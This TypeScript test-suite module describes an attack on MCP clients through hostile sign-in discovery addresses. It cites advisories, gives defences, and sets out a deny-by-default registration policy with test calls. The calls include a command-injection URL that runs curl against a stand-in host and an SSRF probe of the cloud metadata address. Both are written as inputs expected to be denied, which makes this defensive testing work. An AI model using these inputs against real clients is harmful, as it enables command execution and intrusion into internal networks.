// Hostile discovery: addresses that a server names for signing in are attacker input.
import type { Attack } from '../attack.ts';

export const hostileDiscovery: Attack = {
  id: 'hostile-discovery',
  name: 'Hostile addresses in sign-in',
  family: 'protocol',
  evidence: 'documented',
  summary:
    'A server answers the first request with addresses for signing in, and the client opens them: in a shell, or inside of its own network.',
  steps: [
    'A client connects to a server and is told to sign in first.',
    'The server names the addresses of its metadata and of its authorization server.',
    'One of them holds a command, or leads to a machine in the network of the client.',
    'The client opens it with a shell, or fetches it with the rights of its network.',
  ],
  incidents: [
    {
      id: 'CVE-2025-6514',
      product: 'mcp-remote 0.0.5–0.1.15',
      what: 'A hostile authorization endpoint ran commands on the machine of the client.',
    },
    {
      id: 'CVE-2026-51994',
      product: 'mcp-remote 0.1.32–0.1.38',
      what: 'The address of the resource metadata could lead into the network of the client.',
    },
    {
      id: 'GO-2026-6002',
      product: 'ToolHive',
      what: 'The discovery of authorization servers could be led to inner addresses.',
    },
    {
      id: 'GO-2026-5996',
      product: 'ToolHive',
      what: 'A guard against inner addresses missed some that are written in IPv6.',
    },
  ],
  access: 'A client that connects to a hostile remote server.',
  detection:
    'A scan reads what a server announces for signing in and does not follow it to inner addresses.',
  defence:
    'Check a remote server before the first connection. The gateway connects to configured addresses only, refuses inner ones by the address that a name resolves to, and follows no redirects.',
  limits: 'A client that connects to a server directly is on its own.',
  policy: {
    version: '1',
    description:
      'Servers may be registered under addresses of example.com with encryption only, and each registration waits for a person.',
    default: 'deny',
    tools: {
      list_servers: {},
      register_server: {
        require: [
          {
            conditions: [
              { path: 'args.url', op: 'starts_with', value: 'https://' },
              { path: 'args.url', op: 'host_in', value: ['*.example.com'] },
            ],
            on_deny: 'Only servers of example.com may be registered.',
          },
        ],
        approve_if: [{ conditions: [], message: 'A new server needs the approval of a person.' }],
      },
    },
  },
  calls: [
    {
      kind: 'attack',
      note: 'an address inside of the network',
      tool: 'register_server',
      arguments: { url: 'https://169.254.169.254/mcp' },
      expect: 'deny',
    },
    {
      kind: 'attack',
      note: 'a command in the place of an address',
      tool: 'register_server',
      arguments: { url: 'https:$(curl collect.test)' },
      expect: 'deny',
    },
    {
      kind: 'attack',
      note: 'a host that only ends like the permitted one',
      tool: 'register_server',
      arguments: { url: 'https://mcp.notexample.com/mcp' },
      expect: 'deny',
    },
    {
      kind: 'work',
      note: 'a server of the own domain, approved by a person',
      tool: 'register_server',
      arguments: { url: 'https://mcp.example.com/mcp' },
      approved: true,
      expect: 'allow',
    },
  ],
  owasp: ['MCP04', 'MCP05'],
  tools: [],
  servers: [{ traits: ['remote', 'unknown-publisher'], weight: 67 }],
};
